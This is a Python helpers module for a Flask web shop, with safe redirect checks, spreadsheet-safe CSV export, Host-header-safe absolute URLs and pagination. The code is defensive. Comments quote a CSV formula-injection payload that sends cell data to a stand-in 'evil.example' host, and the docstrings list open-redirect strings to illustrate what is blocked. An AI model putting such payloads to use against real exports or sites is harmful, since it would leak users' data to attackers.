"""Helpers shared by the thin routes of every package."""
from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from urllib.parse import urlsplit

from flask import Response, current_app, flash, has_request_context, request, url_for
from flask_wtf import FlaskForm
from sqlalchemy.sql import Executable

from .errors import DomainError
from .extensions import db


def show_domain_error(form: FlaskForm | None, error: DomainError) -> None:
    """Put a service's message next to the field it concerns, or flash it when it has none."""
    field = getattr(form, error.field, None) if (form is not None and error.field) else None
    if field is not None:
        field.errors = list(field.errors) + [error.message]
    else:
        flash(error.message, "error")


def safe_next(target: str | None) -> str | None:
    r"""`target` if it is a path on this site ("/keranjang"), else None. Refuses other sites
    ("https://evil.example", "//evil.example", "/\\evil.example") and control characters, which
    browsers drop ("/\t/evil.example" would become "//evil.example")."""
    if not target or not target.startswith("/") or target.startswith(("//", "/\\")):
        return None
    if "\\" in target or any(ord(char) < 32 or ord(char) == 127 for char in target):
        return None
    parts = urlsplit(target)
    return None if parts.scheme or parts.netloc else target


def uploaded_file(field: str) -> tuple[str, bytes] | None:
    """(filename, bytes) of the file sent in form `field`, or None when none was chosen."""
    storage = request.files.get(field)
    return (storage.filename, storage.read()) if storage and storage.filename else None


# A spreadsheet treats a cell starting with one of these as a formula (or, for tab and CR, may shift it
# into one): `=HYPERLINK("http://evil.example/?d="&A2,"Klik")` in a product name would run when the
# pengurus opens the export.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """A CSV cell a spreadsheet shows as typed: text that would start a formula gets a leading apostrophe
    (OWASP's advice). Numbers stay numbers: -5000 is an amount, not a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def absolute_url(endpoint: str, **values) -> str:
    """The full address of a page, for links read outside the site: OpenGraph, canonical, sitemap, robots.txt,
    WhatsApp messages, password links, Midtrans' return address. Built on PUBLIC_BASE_URL when it is set,
    so a forged `Host:` header cannot put another site's name into them (nor into the page cache) — and so
    it also works outside a request (a command, the notification sender). Without PUBLIC_BASE_URL it takes
    the request's host; with neither (nor SERVER_NAME) it raises RuntimeError."""
    base = current_app.config.get("PUBLIC_BASE_URL")
    if base and not has_request_context():  # a command or the sender: the path from the URL map alone
        cfg = current_app.config
        adapter = current_app.url_map.bind(cfg.get("SERVER_NAME") or "localhost",
                                           script_name=cfg.get("APPLICATION_ROOT") or "/")
        return base + adapter.build(endpoint, values)
    if base:
        return base + url_for(endpoint, **values)
    return url_for(endpoint, _external=True, **values)  # RuntimeError without a request or SERVER_NAME


CSV_CHUNK_ROWS = 500


def csv_download(filename: str, header: list[str], rows, convert=None) -> Response:
    """A CSV file download of `rows` under `header`; every text cell is made spreadsheet-safe.

    `rows` is a list, or a SELECT statement: that one is run as the file is sent, on a connection of its
    own with a server-side cursor, so a long export is streamed row by row and never held in memory
    (`convert` turns each result row into the cells written)."""
    engine = db.engine if isinstance(rows, Executable) else None

    def lines(source):
        out = io.StringIO()
        writer = csv.writer(out)
        writer.writerow([spreadsheet_safe(cell) for cell in header])
        for n, row in enumerate(source, start=1):
            writer.writerow([spreadsheet_safe(cell) for cell in (convert(row) if convert else row)])
            if n % CSV_CHUNK_ROWS == 0:
                yield out.getvalue()
                out.seek(0)
                out.truncate(0)
        yield out.getvalue()

    def generate():
        if engine is None:
            yield from lines(rows)
            return
        with engine.connect() as connection:  # not the request's session: this runs after the view returned
            yield from lines(connection.execution_options(yield_per=CSV_CHUNK_ROWS).execute(rows))

    return Response(generate(), mimetype="text/csv",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})


PAGE_SIZE = 50


@dataclass
class Page:
    """One page of a listing, read with one row more than it shows: a next page costs no COUNT(*)."""
    number: int
    size: int
    items: list
    has_next: bool

    @classmethod
    def of(cls, read, number: int, size: int = PAGE_SIZE) -> "Page":
        """`read(limit, offset)` returns the rows of a listing from `offset` on, at most `limit` of them."""
        rows = list(read(size + 1, (number - 1) * size))
        return cls(number, size, rows[:size], len(rows) > size)


def page_arg(name: str = "page") -> int:
    """The page number asked for in the query string (1 when missing or nonsense), capped."""
    return min(max(request.args.get(name, 1, type=int) or 1, 1), 100_000)
